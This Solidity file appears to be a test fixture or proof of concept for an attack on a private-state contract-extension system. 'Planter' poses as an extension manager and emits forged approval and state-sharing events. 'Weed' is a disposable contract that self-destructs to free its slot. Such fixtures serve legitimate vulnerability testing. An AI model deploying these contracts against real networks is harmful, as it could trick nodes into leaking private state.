// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

/// A management contract of an attacker's making: it looks as any other until it is approved, and then says that whatever its
/// creator wants is shared.
contract Planter {
    address public creator;
    address[2] public walletAddressesToVote;
    string private vote;

    event NewContractExtensionContractCreated(address toExtend, string recipientPTMKey, address recipientAddress);
    event StateShared(address toExtend, string tesserahash, string uuid);

    constructor(address named, address recipient, string memory recipientKey) {
        creator = msg.sender;
        walletAddressesToVote = [msg.sender, recipient];
        emit NewContractExtensionContractCreated(named, recipientKey, recipient);
    }

    function checkIfExtensionFinished() external pure returns (bool) {
        return false;
    }

    function checkIfVoted() external view returns (bool) {
        return msg.sender == creator;
    }

    function doVote(bool, string calldata uuid) external {
        vote = uuid;
    }

    function plant(address target, string calldata stateHash) external {
        emit StateShared(target, stateHash, vote);
    }
}

/// What is planted; it makes room for the next.
contract Weed {
    uint256 public value = 7;

    function die() external {
        selfdestruct(payable(msg.sender));
    }
}
